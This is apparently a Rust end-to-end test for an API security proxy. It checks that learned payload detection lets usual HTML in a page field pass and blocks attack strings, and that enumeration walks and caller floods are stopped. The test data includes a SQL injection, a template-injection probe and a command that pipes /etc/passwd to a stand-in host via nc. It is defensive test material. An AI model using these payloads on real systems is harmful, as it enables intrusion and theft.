//! What was learned of callers and fields, over real workers: a caller that spreads its calls over connections is counted as
//! one, and stopped; nobody else is. A field whose normal values look like attacks does not alarm for being itself.

mod e2e;

use std::collections::{BTreeMap, BTreeSet};

use apiward_detector::payload::PayloadClass;
use apiward_detector::verdict::DetectorKind;
use apiward_e2e::harness::{Envoy, Secrets};
use axum::http::StatusCode;
use serde_json::{Value, json};
use tokio::task::JoinSet;

use e2e::{
    Client, EchoService, HostileTrainer, NoteRequest, capture, filter_configuration, honest_requests, learn_over_time,
    until, until_judged_on_all_workers,
};

const CALLERS: usize = 60;
const LEARNED_EXCHANGES: usize = 900;
/// One of so many exchanges is a page.
const PAGE_EVERY: usize = 10;
const SERIAL: u64 = 5;
/// Objects that the attacker walks through.
const WALKED: u32 = 60;
/// By then he must be stopped.
const STOPPED_WITHIN: usize = 40;
/// Sessions that are kept of callers, and of addresses, while a flood passes.
const REMEMBERED: usize = 512;
/// Invented callers of the flood, and of what passes before it is measured; and between how many parts of it the walk goes on.
const FLOOD_CALLERS: usize = 6_000;
const WARMING_CALLERS: usize = 1_000;
const FLOOD_PARTS: usize = 60;
const FLOOD_TASKS: usize = 4;
/// What memory varies by from one moment to the other, with connections opened and closed all the time.
const MEMORY_NOISE_BYTES: u64 = 1024 * 1024;
const CALLER: &str = "x-user-id";
const ADDRESS: &str = "x-forwarded-for";

/// An Envoy of two workers that has learned what the callers of a service do.
struct Proxy {
    envoy: Envoy,
    trainer: HostileTrainer,
    _service: EchoService,
}

impl Proxy {
    async fn start(settings: &Value) -> anyhow::Result<Self> {
        let secrets = Secrets::random()?;
        let service = EchoService::start().await?;
        let trainer = HostileTrainer::start().await?;
        let envoy = Envoy::builder(service.address(), trainer.address(), &secrets)?
            .workers(2)
            .filter(&filter_configuration(settings))
            .start()
            .await?;
        let honest = honest_requests(1, LEARNED_EXCHANGES).into_iter().enumerate();
        let requests: Vec<NoteRequest> = honest
            .flat_map(|(number, request)| {
                let page = number.is_multiple_of(PAGE_EVERY).then(|| page(number / PAGE_EVERY));
                page.into_iter().chain([request]).map(move |request| by(request, number % CALLERS))
            })
            .collect();
        let captures = capture(&envoy, &trainer, &requests).await?;
        let learned = learn_over_time(&captures, &secrets, 1).await?;
        assert!(learned.bundle.volume.is_armed(), "nothing was learned of callers");
        let fields = &learned.bundle.calibration.payload.fields;
        let of_pages = fields.iter().find(|field| field.name == "html" && field.class == PayloadClass::Xss);
        assert!(of_pages.is_some(), "nothing was learned of the field of code: {fields:?}");
        trainer.hand_out(learned.sealed(SERIAL)?);
        until_judged_on_all_workers(&envoy, &trainer, SERIAL).await?;
        Ok(Self { envoy, trainer, _service: service })
    }
}

/// The same by a caller of a network of its own.
fn by(request: NoteRequest, caller: usize) -> NoteRequest {
    let address = format!("198.18.{caller}.7");
    request.with_header(CALLER, format!("user-{caller}")).with_header(ADDRESS, address)
}

fn note(number: u32) -> NoteRequest {
    NoteRequest::get(&format!("/api/notes/{number}"))
}

/// A page of a content management system, of which editors embed what they like.
fn page(number: usize) -> NoteRequest {
    let html = match number % 4 {
        0 => format!("<p>Read more.</p><script src=\"https://stats.example/{number}.js\"></script>"),
        1 => format!("<iframe src=\"https://video.example/{number}\" onload=\"fit(this)\"></iframe>"),
        2 => format!("<a href=\"javascript:void(0)\" onclick=\"more({number})\">More</a>"),
        _ => format!("<script>window.campaign = {number}; track('view');</script>"),
    };
    page_of(&html)
}

fn page_of(html: &str) -> NoteRequest {
    NoteRequest::json("/api/pages", &json!({"title": "Autumn", "html": html}))
}

/// What the payload detector says of each of these requests, by their order.
async fn payload_findings(trainer: &HostileTrainer, requests: &[NoteRequest]) -> anyhow::Result<Vec<Option<String>>> {
    let ids: BTreeSet<String> = requests.iter().map(|request| request.id.to_string()).collect();
    let records = until("the records", async || {
        let found = trainer.records_of(&ids);
        Ok((found.len() >= ids.len()).then_some(found))
    })
    .await?;
    let said = |request: &NoteRequest| {
        let id = Some(request.id.to_string());
        let (_, record) = records.iter().find(|(_, record)| record.request_id == id).expect("it was waited for");
        let findings = record.verdict.iter().flat_map(|verdict| &verdict.findings);
        let mut payload = findings.filter(|finding| finding.kind.detector() == DetectorKind::Payload);
        payload.next().map(|finding| finding.reason.clone())
    };
    Ok(requests.iter().map(said).collect())
}

async fn assert_pages_are_normal_and_attacks_are_not(client: &Client, trainer: &HostileTrainer) -> anyhow::Result<()> {
    let html = |request: &NoteRequest| -> anyhow::Result<String> {
        let body: Value = serde_json::from_slice(&request.body)?;
        Ok(body["html"].as_str().unwrap_or_default().to_owned())
    };
    let pages: Vec<NoteRequest> = (4_000..4_008).map(|number| by(page(number), number % CALLERS)).collect();
    // The same elsewhere, and in the field what is foreign to it.
    let mut attacks = Vec::new();
    for page in &pages[..4] {
        let note = json!({"title": "Paint", "text": html(page)?, "pages": 3});
        attacks.push(by(NoteRequest::json("/api/notes", &note), 1));
    }
    for foreign in [
        "1' UNION ALL SELECT username, password FROM users-- ",
        "; cat /etc/passwd | nc evil.example 4444",
        "{{config.__class__.__init__.__globals__}}",
    ] {
        attacks.push(by(page_of(foreign), 2));
    }
    for request in &pages {
        client.send(request).await?;
    }
    for request in &attacks {
        assert_eq!(client.send(request).await?.status, StatusCode::FORBIDDEN, "{:?}", request.body);
    }
    let of_pages = payload_findings(trainer, &pages).await?;
    assert!(of_pages.iter().all(Option::is_none), "{of_pages:?}");
    let of_attacks = payload_findings(trainer, &attacks).await?;
    assert!(of_attacks.iter().all(Option::is_some), "{of_attacks:?}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_field_of_code_is_normal_where_it_is_usual_and_a_walk_through_objects_is_stopped_on_any_worker()
-> anyhow::Result<()> {
    let proxy = Proxy::start(&json!({"mode": "enforce"})).await?;
    let (envoy, trainer) = (&proxy.envoy, &proxy.trainer);
    let client = Client::with_new_connections(envoy);
    assert_pages_are_normal_and_attacks_are_not(&client, trainer).await?;

    let attacker = CALLERS + 1;
    let mut statuses = Vec::new();
    let (mut walk, mut refused, mut others) = (BTreeSet::new(), BTreeSet::new(), BTreeSet::new());
    for number in 0..WALKED {
        let request = by(note(1_000 + number), attacker);
        walk.insert(request.id.to_string());
        let status = client.send(&request).await?.status;
        if status == StatusCode::FORBIDDEN {
            refused.insert(request.id.to_string());
        }
        statuses.push(status);
        // Others work on meanwhile, on the same workers.
        let other = by(note(2_000 + number), number as usize % CALLERS);
        others.insert(other.id.to_string());
        client.send(&other).await?;
    }
    let stopped_at = statuses.iter().position(|status| *status == StatusCode::FORBIDDEN);
    let stopped_at = stopped_at.expect("the walk was never stopped");
    assert!(stopped_at < STOPPED_WITHIN, "the walk was stopped at call {stopped_at} only");
    assert!(statuses[stopped_at..].iter().all(|status| *status == StatusCode::FORBIDDEN), "{statuses:?}");

    let of_others = until("the records of the others", async || {
        let found = trainer.records_of(&others);
        Ok((found.len() >= others.len()).then_some(found))
    })
    .await?;
    for (_, record) in of_others {
        let verdict = record.verdict.expect("it was judged");
        let mut findings = verdict.findings.iter();
        let flurry = findings.find(|finding| finding.kind.detector() == DetectorKind::Volume);
        assert!(flurry.is_none(), "an honest caller: {flurry:?}");
    }

    // One caller, not one for each worker: the count goes on where the other worker left it.
    let records = until("the records of the walk", async || {
        let found = trainer.records_of(&walk);
        Ok((found.len() >= walk.len()).then_some(found))
    })
    .await?;
    let mut by_worker: BTreeMap<String, usize> = BTreeMap::new();
    for (worker, record) in &records {
        *by_worker.entry(worker.clone()).or_default() += 1;
        let verdict = record.verdict.as_ref().expect("it was judged");
        if record.request_id.as_ref().is_some_and(|id| refused.contains(id)) {
            let mut findings = verdict.findings.iter();
            let flurry = findings.find(|finding| finding.kind.detector() == DetectorKind::Volume);
            assert!(flurry.is_some_and(|flurry| flurry.reason.contains("usual")), "{:?}", verdict.findings);
        }
    }
    assert_eq!(by_worker.len(), 2, "the system gave all connections to one worker");
    assert!(by_worker.values().all(|calls| *calls < WALKED as usize), "{by_worker:?}");
    assert_eq!(envoy.metric("apiward_session_updates_total.result.lost").await?, 0);
    proxy.envoy.stop().await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_flood_of_invented_callers_costs_what_was_promised_and_hides_nobody() -> anyhow::Result<()> {
    let sessions = json!({"callers_max": REMEMBERED, "addresses_max": REMEMBERED});
    let proxy = Proxy::start(&json!({"mode": "enforce", "capture": true, "sessions": sessions})).await?;
    let envoy = &proxy.envoy;
    let walker = Client::with_new_connections(envoy);
    // Everything that grows with traffic itself, such as buffers and connections, is there before it is measured.
    flood(envoy, 0..WARMING_CALLERS).await?;
    let before = envoy.memory_allocated().await?;
    let mut statuses = Vec::new();
    for part in 0..FLOOD_PARTS {
        let first = WARMING_CALLERS + part * FLOOD_CALLERS / FLOOD_PARTS;
        flood(envoy, first..first + FLOOD_CALLERS / FLOOD_PARTS).await?;
        statuses.push(walker.send(&by(note(1_000 + part as u32), CALLERS + 1)).await?.status);
    }
    let after = envoy.memory_allocated().await?;
    // docs/callers.md
    let promised = REMEMBERED * (378 + 16) + REMEMBERED * (177 + 16) + 2 * REMEMBERED / 8 * 35;
    let grown = after.saturating_sub(before);
    println!("{FLOOD_CALLERS} invented callers: memory grew by {grown} bytes, all sessions have {promised} at most");
    assert!(grown < promised as u64 + MEMORY_NOISE_BYTES, "it grew by {grown} bytes from {before}");
    let stopped_at = statuses.iter().position(|status| *status == StatusCode::FORBIDDEN);
    assert!(stopped_at.is_some_and(|call| call < STOPPED_WITHIN), "the walk was stopped at call {stopped_at:?}");
    let updates = async |result: &str| envoy.metric(&format!("apiward_session_updates_total.result.{result}")).await;
    let lost = updates("lost").await?;
    let all = updates("kept").await? + updates("replaced").await? + updates("waiting").await? + lost;
    println!("{lost} of {all} session updates were lost");
    assert!(updates("replaced").await? > 0, "the flood was no flood");
    assert!(lost * 1_000 < all, "{lost} of {all} session updates were lost");
    proxy.envoy.stop().await
}

/// Invented callers, each behind an address of its own, who call twice.
async fn flood(envoy: &Envoy, callers: std::ops::Range<usize>) -> anyhow::Result<()> {
    let mut tasks = JoinSet::new();
    for task in 0..FLOOD_TASKS {
        let client = Client::with_new_connections(envoy);
        let callers = callers.clone();
        tasks.spawn(async move {
            for caller in callers.skip(task).step_by(FLOOD_TASKS) {
                for _ in 0..2 {
                    let request = NoteRequest::get("/api/notes")
                        .with_header(CALLER, format!("invented-{caller}"))
                        .with_header(ADDRESS, format!("203.{}.{}.9", caller / 250, caller % 250));
                    client.send(&request).await?;
                }
            }
            anyhow::Ok(())
        });
    }
    while let Some(ended) = tasks.join_next().await {
        ended??;
    }
    Ok(())
}
